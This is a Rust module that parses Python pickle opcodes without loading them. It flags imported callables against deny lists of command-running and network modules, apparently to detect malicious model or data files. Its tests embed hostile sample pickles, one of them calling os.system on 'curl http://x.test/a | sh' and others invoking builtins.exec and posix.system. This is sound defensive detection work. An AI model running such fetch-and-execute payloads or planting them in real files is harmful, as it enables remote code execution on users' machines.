//! Python pickles read without unpickling: the opcode stream is walked (protocols 0–5,
//! as `pickletools.genops` does) for the callables the data imports (`GLOBAL`, `INST`,
//! `STACK_GLOBAL`) and the strings handed to them. Loading a pickle calls what it imports,
//! so a shipped model or data file that imports `os.system` or `builtins.exec` is code.
//!
//! Hand-written (about 200 lines) because the Rust pickle crates (serde-pickle) decode
//! values and refuse globals; what is needed here is the opcode stream itself, including
//! the globals that a decoder would refuse.

/// A callable a pickle imports, with the strings pushed after it (its likely arguments,
/// up to the next `REDUCE` / `BUILD` / `OBJ` / `NEWOBJ`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Global {
    pub module: String,
    pub name: String,
    pub args: Vec<String>,
}

/// What a pickle imports. `None` when `data` does not read as a pickle.
pub(crate) fn read(data: &[u8]) -> Option<Vec<Global>> {
    let mut globals = Vec::new();
    let mut pos = 0;
    let mut streams = 0;
    // Legacy torch files hold several pickles one after the other.
    while pos < data.len() && streams < MAX_STREAMS {
        match walk(&data[pos..], &mut globals) {
            Some(used) => {
                pos += used;
                streams += 1;
            }
            None if streams == 0 => return None,
            None => break,
        }
        if data.get(pos) != Some(&0x80) {
            break;
        }
    }
    Some(globals)
}

/// Pickles read one after the other in a file, at most.
const MAX_STREAMS: usize = 8;
/// Opcodes walked in one file, at most (a bound on hostile input).
const MAX_OPS: usize = 2_000_000;
/// Strings kept as arguments of one global.
const MAX_ARGS: usize = 16;
/// Bytes of one kept string.
const MAX_STR: usize = 64 * 1024;

/// Whether `data` starts like a pickle: a protocol 2–5 header, or a protocol-0/1 opening
/// opcode followed by a printable global or mark (checked further by [`read`]).
pub(crate) fn looks_like(data: &[u8]) -> bool {
    match data {
        [0x80, 2..=5, ..] => true,
        // `GLOBAL module\nname\n`: two dotted names on the first two lines.
        [b'c', rest @ ..] => {
            let mut lines = rest.splitn(3, |&b| b == b'\n');
            let dotted = |l: Option<&[u8]>| {
                l.is_some_and(|l| {
                    !l.is_empty()
                        && l.len() <= 256
                        && !l[0].is_ascii_digit()
                        && l.iter()
                            .all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
                })
            };
            dotted(lines.next()) && dotted(lines.next()) && lines.next().is_some()
        }
        [b'(' | b'}' | b']' | b')', ..] => data.ends_with(b"."),
        _ => false,
    }
}

/// Walks one pickle up to its `STOP`; returns the bytes it used.
fn walk(data: &[u8], globals: &mut Vec<Global>) -> Option<usize> {
    let mut p = 0usize;
    // Recent strings (for STACK_GLOBAL) and the memo (for strings fetched by GET).
    let mut recent: Vec<String> = Vec::new();
    let mut memo: std::collections::HashMap<u64, String> = std::collections::HashMap::new();
    let mut memo_next = 0u64;
    let mut open: Option<usize> = None;
    // The string on top of the stack, if the last opcode pushed one (memo opcodes store it).
    let mut top: Option<String> = None;
    let take = |p: &mut usize, n: usize| -> Option<&[u8]> {
        let s = data.get(*p..p.checked_add(n)?)?;
        *p += n;
        Some(s)
    };
    let line = |p: &mut usize| -> Option<&[u8]> {
        let rest = data.get(*p..)?;
        let end = memchr::memchr(b'\n', rest)?;
        *p += end + 1;
        Some(&rest[..end])
    };
    let uint = |b: &[u8]| b.iter().rev().fold(0u64, |a, &x| (a << 8) | u64::from(x));
    for _ in 0..MAX_OPS {
        let op = *data.get(p)?;
        p += 1;
        let mut pushed: Option<String> = None;
        match op {
            b'.' => return Some(p),
            // No argument.
            b'('
            | b'0'
            | b'1'
            | b'2'
            | b'N'
            | b'Q'
            | b'a'
            | b'd'
            | b'}'
            | b'e'
            | b'l'
            | b']'
            | b's'
            | b't'
            | b')'
            | b'u'
            | 0x85..=0x89
            | 0x8f..=0x91
            | 0x97
            | 0x98 => {}
            // Calls: what follows is no longer an argument of the open global.
            b'R' | b'b' | b'o' | 0x81 | 0x92 => open = None,
            0x94 => {
                if let Some(s) = &top {
                    memo.insert(memo_next, s.clone());
                }
                memo_next += 1;
                pushed = top.take();
            }
            // Line arguments.
            b'F' | b'I' | b'L' | b'P' => {
                line(&mut p)?;
            }
            b'S' | b'V' => {
                let l = line(&mut p)?;
                let s = String::from_utf8_lossy(l);
                let s = s.trim_matches(|c| c == '\'' || c == '"');
                pushed = Some(unescape(s));
            }
            b'p' => {
                let l = line(&mut p)?;
                if let (Ok(i), Some(s)) = (String::from_utf8_lossy(l).trim().parse::<u64>(), &top) {
                    memo.insert(i, s.clone());
                }
                pushed = top.take();
            }
            b'g' => {
                let l = line(&mut p)?;
                if let Ok(i) = String::from_utf8_lossy(l).trim().parse::<u64>() {
                    pushed = memo.get(&i).cloned();
                }
            }
            b'c' | b'i' => {
                let module = String::from_utf8_lossy(line(&mut p)?).into_owned();
                let name = String::from_utf8_lossy(line(&mut p)?).into_owned();
                globals.push(Global {
                    module,
                    name,
                    args: Vec::new(),
                });
                open = Some(globals.len() - 1);
            }
            0x93 => {
                let n = recent.len();
                if n >= 2 {
                    globals.push(Global {
                        module: recent[n - 2].clone(),
                        name: recent[n - 1].clone(),
                        args: Vec::new(),
                    });
                    open = Some(globals.len() - 1);
                }
            }
            // Fixed-size arguments; memo fetches (GET) and stores (PUT) of 1 or 4 bytes.
            b'K' | b'h' | b'q' | 0x80 | 0x82 | b'J' | b'j' | b'r' | 0x84 => {
                let n = if matches!(op, b'J' | b'j' | b'r' | 0x84) {
                    4
                } else {
                    1
                };
                let b = take(&mut p, n)?;
                match op {
                    b'h' | b'j' => pushed = memo.get(&uint(b)).cloned(),
                    b'q' | b'r' => {
                        if let Some(s) = &top {
                            memo.insert(uint(b), s.clone());
                        }
                        pushed = top.take();
                    }
                    _ => {}
                }
            }
            b'M' | 0x83 => {
                take(&mut p, 2)?;
            }
            b'G' | 0x95 => {
                take(&mut p, 8)?;
            }
            // Length-prefixed arguments.
            b'U' | b'C' | 0x8c | 0x8a => {
                let n = take(&mut p, 1)?[0] as usize;
                let b = take(&mut p, n)?;
                if op != 0x8a {
                    pushed = Some(text(b));
                }
            }
            b'T' | b'X' | b'B' | 0x8b => {
                let n = uint(take(&mut p, 4)?) as usize;
                let b = take(&mut p, n)?;
                if op != 0x8b {
                    pushed = Some(text(b));
                }
            }
            0x8d | 0x8e | 0x96 => {
                let n = usize::try_from(uint(take(&mut p, 8)?)).ok()?;
                let b = take(&mut p, n)?;
                pushed = Some(text(b));
            }
            _ => return None,
        }
        let memo_op = matches!(op, 0x94 | b'p' | b'q' | b'r');
        top = None;
        if let Some(s) = pushed {
            if !memo_op {
                if let Some(g) = open.and_then(|i| globals.get_mut(i))
                    && g.args.len() < MAX_ARGS
                {
                    g.args.push(s.clone());
                }
                recent.push(s.clone());
                if recent.len() > 4 {
                    recent.remove(0);
                }
            }
            top = Some(s);
        }
    }
    None
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(&b[..b.len().min(MAX_STR)]).into_owned()
}

/// Protocol-0 string escapes (`\n`, `\x41`, `\\`, `\'`), enough to read commands and code.
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match it.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('x') | Some('u') => {
                let hex: String = std::iter::from_fn(|| it.next_if(|c| c.is_ascii_hexdigit()))
                    .take(4)
                    .collect();
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(o) => out.push(o),
            None => {}
        }
    }
    out
}

/// How dangerous an imported callable is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Danger {
    /// Runs a command or code (`os.system`, `subprocess.Popen`, `builtins.exec`...).
    Runs,
    /// Other reach outside data (network, files, native code, imports by name).
    Unsafe,
}

/// Modules whose every callable runs commands.
const RUN_MODULES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "subprocess",
    "commands",
    "pty",
    "runpy",
];
/// Callables that run code or commands.
const RUN_CALLABLES: &[&str] = &[
    "builtins.eval",
    "builtins.exec",
    "builtins.execfile",
    "builtins.compile",
    "__builtin__.eval",
    "__builtin__.exec",
    "__builtin__.execfile",
    "__builtin__.compile",
    "timeit.timeit",
    "timeit.repeat",
    "cProfile.run",
    "cProfile.runctx",
    "profile.run",
    "pdb.run",
    "code.interact",
    "code.InteractiveInterpreter",
    "idlelib.pyshell.ModifiedInterpreter",
    "pydoc.pipepager",
    "marshal.loads",
    "types.CodeType",
    "types.FunctionType",
];
/// Modules outside data that a model or data file has no reason to import.
const UNSAFE_MODULES: &[&str] = &[
    "socket",
    "shutil",
    "ctypes",
    "importlib",
    "webbrowser",
    "requests",
    "urllib",
    "urllib2",
    "urllib3",
    "httplib",
    "http",
    "aiohttp",
    "smtplib",
    "ftplib",
    "telnetlib",
    "sys",
    "pickle",
    "_pickle",
    "cPickle",
    "dill",
    "asyncio",
    "multiprocessing",
    "threading",
    "signal",
];
/// Builtins that reach outside data.
const UNSAFE_BUILTINS: &[&str] = &[
    "getattr",
    "setattr",
    "delattr",
    "__import__",
    "open",
    "apply",
    "breakpoint",
    "input",
    "globals",
    "locals",
    "vars",
];

/// The danger of `module.name`, if any.
pub(crate) fn danger(g: &Global) -> Option<Danger> {
    let root = g.module.split('.').next().unwrap_or("");
    let full = format!("{}.{}", g.module, g.name);
    if RUN_MODULES.contains(&root) || RUN_CALLABLES.contains(&full.as_str()) {
        return Some(Danger::Runs);
    }
    let builtin = matches!(g.module.as_str(), "builtins" | "__builtin__");
    if UNSAFE_MODULES.contains(&root) || builtin && UNSAFE_BUILTINS.contains(&g.name.as_str()) {
        return Some(Danger::Unsafe);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn g(m: &str, n: &str, args: &[&str]) -> Global {
        Global {
            module: m.into(),
            name: n.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
        }
    }

    #[test]
    fn reads_protocol_0_global_and_its_argument() {
        let p = b"cos\nsystem\n(S'curl http://x.test/a | sh'\ntR.";
        assert!(looks_like(p));
        assert_eq!(
            read(p),
            Some(vec![g("os", "system", &["curl http://x.test/a | sh"])])
        );
    }

    #[test]
    fn reads_protocol_4_stack_global_through_the_memo() {
        // pickle.dumps of an object whose __reduce__ is (builtins.exec, ("print(1)",)),
        // protocol 4, as CPython 3.11 writes it.
        let p = b"\x80\x04\x95\x24\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94\x8c\x08print(1)\x94\x85\x94R\x94.";
        assert!(looks_like(p));
        assert_eq!(read(p), Some(vec![g("builtins", "exec", &["print(1)"])]));
        assert_eq!(danger(&read(p).unwrap()[0]), Some(Danger::Runs));
    }

    #[test]
    fn reads_protocol_0_unicode_argument_after_memo_puts() {
        let p = b"cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.";
        assert_eq!(read(p), Some(vec![g("posix", "system", &["id"])]));
    }

    #[test]
    fn data_only_pickles_import_nothing_dangerous() {
        // collections.OrderedDict([('a', 1)]), protocol 2.
        let p = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x01\x00\x00\x00aq\x02K\x01s.";
        let gs = read(p).unwrap();
        assert_eq!(gs.len(), 1);
        assert_eq!(danger(&gs[0]), None);
    }

    #[test]
    fn truncated_or_foreign_bytes_are_not_pickles() {
        assert_eq!(read(b"\x80\x04\x8c\x10abc"), None);
        assert!(!looks_like(b"PK\x03\x04"));
        assert!(!looks_like(b"import os\n"));
        assert!(!looks_like(b"const x = require('x')\nmodule.exports = x\n"));
        assert_eq!(read(b"\xff\xfe"), None);
    }

    /// For `bench/pickle/check.sh`: prints `path<TAB>module.name,...` for each file listed
    /// in `$PICKLE_LIST` (and fails on one not recognised as a pickle).
    #[test]
    #[ignore]
    fn globals_for_listed_files() {
        let list = std::env::var("PICKLE_LIST").expect("PICKLE_LIST names a file list");
        for path in std::fs::read_to_string(list).unwrap().lines() {
            let data = std::fs::read(path).unwrap();
            assert!(looks_like(&data), "{path} not recognised as a pickle");
            let names: Vec<String> = read(&data)
                .unwrap_or_default()
                .iter()
                .map(|g| format!("{}.{}", g.module, g.name))
                .collect();
            println!("{path}\t{}", names.join(","));
        }
    }
}
